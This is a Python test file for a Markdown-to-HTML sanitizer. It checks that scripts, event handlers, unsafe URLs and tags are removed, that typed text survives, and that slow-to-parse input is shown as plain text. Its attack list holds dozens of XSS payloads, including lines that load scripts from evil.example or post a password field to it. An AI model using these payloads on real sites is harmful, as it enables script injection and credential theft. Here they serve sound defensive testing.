"""Markdown as HTML: nothing that acts survives, and what a person typed is still there."""

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from planner.exchange.page import ATTRIBUTES, TAGS, safe_html

ATTACKS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif'>",
    "![pixel](https://evil.example/pixel.gif)",
    '![x](x "onerror=alert(1)")',
    '![x](x"onerror="alert(1))',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<applet code=x></applet>",
    "<form action='https://evil.example'><input name=password><button>ok</button></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div style='behavior:url(x.htc)'>x</div>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=x onclick=alert(1)>x</a>",
    "<a href='https://a.example' target=_blank onmouseover=alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61;vascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/relative)",
    "[x]( javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example"onmouseover="alert(1))',
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "```html onload=alert(1)\nx\n```",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<x onclick=alert(1)>x</x>",
    "a | b\n--|--\n<img src=x onerror=alert(1)> | <script>x</script>",
    "\x02klzzwxh:0000\x03 <script>alert(1)</script>",
)
PLACES = {"http", "https", "mailto"}


class Found(HTMLParser):
    """The tags, attributes and text of a page; anything else fails."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.links: list[str] = []
        self.text = ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        for name, value in attrs:
            assert name in ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
            if name == "href":
                self.links.append(value or "")

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)

    def handle_pi(self, data: str) -> None:
        raise AssertionError(data)


def found(text: str) -> Found:
    page = Found(safe_html(text))
    assert set(page.tags) <= TAGS
    assert all(link.partition(":")[0].lower() in PLACES for link in page.links)
    return page


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_survives(attack: str) -> None:
    found(attack)
    found(f"Un mot {attack} encore")
    found(f"> - {attack}\n>\n> {attack}")


@given(st.lists(st.sampled_from(ATTACKS) | st.text(max_size=5), max_size=4).map("".join))
def test_no_mixture_of_attacks_survives(text: str) -> None:
    found(text)


def test_what_looks_like_a_tag_is_shown_as_typed() -> None:
    assert found("Bonjour <prénom>, 2 < 3 & <b>oui</b>").text == "Bonjour <prénom>, 2 < 3 & <b>oui</b>"


def test_markdown_is_read() -> None:
    blocks = (
        "# Titre",
        "Un **mot** et *un* `code`",
        "- a\n- b",
        "> dit",
        "```\nx < y\n```",
        "3. c",
        "a | b\n--|--\n1 | 2",
    )
    tags = {"h1", "p", "strong", "em", "code", "ul", "li", "blockquote", "pre", "ol"}
    assert set(found("\n\n".join(blocks)).tags) == tags | {"table", "thead", "tbody", "tr", "th", "td"}
    assert 'start="3"' in safe_html("3. c")


def test_a_line_end_is_a_line_break() -> None:
    assert safe_html("un\r\ndeux\u2028trois") == "<p>un<br>\ndeux<br>\ntrois</p>"


def test_links_lead_out_without_a_trace() -> None:
    assert safe_html("[a](https://a.example/?b=1&c=2)") == (
        '<p><a href="https://a.example/?b=1&amp;c=2" rel="noopener noreferrer">a</a></p>'
    )
    assert found("<https://a.example> [m](mailto:a@b.example) [H](HTTP://b.example)").links == [
        "https://a.example",
        "mailto:a@b.example",
        "HTTP://b.example",
    ]


def test_control_characters_go() -> None:
    assert safe_html("a\x00\x1b[31m\x9b\ud800b") == "<p>a[31mb</p>"


@pytest.mark.parametrize(
    "text",
    [
        "[" * 500,
        "a ![" * 1_001,
        "<" * 500,
        "!" * 500,
        "`" * 500,
        "[<!`" * 125,
        "=" * 500,
        "> " * 50 + "x",
        ">" * 51,
        "- " * 51 + "x",
        "    " * 51 + "- x",
        "\t" * 51 + "x",
        "*a " * 10_001,
        "#\n" * 3_001,
        "x" * 1_000_001,
    ],
)
def test_what_is_slow_to_read_is_shown_as_typed(text: str) -> None:
    page = safe_html(text)
    assert page.startswith("<pre>")
    assert Found(page).text == text


def test_what_is_shown_as_typed_cannot_act() -> None:
    assert found("[" * 500 + "<script>alert(1)</script>").tags == ["pre"]


def test_a_long_honest_text_is_read() -> None:
    assert safe_html("Un mot, puis un autre.\n\n" * 1_000).count("<p>") == 1_000


def test_texts_do_not_leak_into_each_other() -> None:
    safe_html("[a]: https://a.example")
    assert found("[x][a]").links == []
